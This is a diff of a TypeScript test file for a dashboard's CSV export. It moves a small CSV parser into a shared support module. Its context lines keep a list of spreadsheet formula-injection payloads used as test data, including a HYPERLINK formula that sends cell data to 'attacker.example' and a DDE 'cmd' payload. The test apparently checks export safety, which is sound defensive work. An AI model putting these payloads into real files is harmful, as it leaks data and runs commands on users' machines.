@@ -19,6 +19,7 @@ import { syntheticTransaction } from '../../streams/transactions/generator';
 import { launchOffline } from '../support/chromium';
 import { configEnv } from '../support/isolation';
 import { isolatedEnv, runPipeline, type TestEnv } from '../support/harness';
+import { parseCsv } from '../support/csv';
 
 const ROWS = 220;
 const WINDOW = 100;
@@ -28,36 +29,6 @@ const gen = { seed: 57, startMs: Date.now() - 2 * DAY_MS, windowMs: 2 * DAY_MS -
 /** Merchant names a spreadsheet would run as formulas (OWASP's examples, more or less). */
 const FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Refund")', '+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)'];
 const TOKEN = 'test-token-0123456789abcdef';
-
-/** A minimal RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(field);
-      field = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += c;
-  }
-  assert.equal(field + row.join(''), '', 'the CSV ends with CRLF');
-  return rows;
-}
 
 describe('dashboard bounds', () => {
   let env: TestEnv;
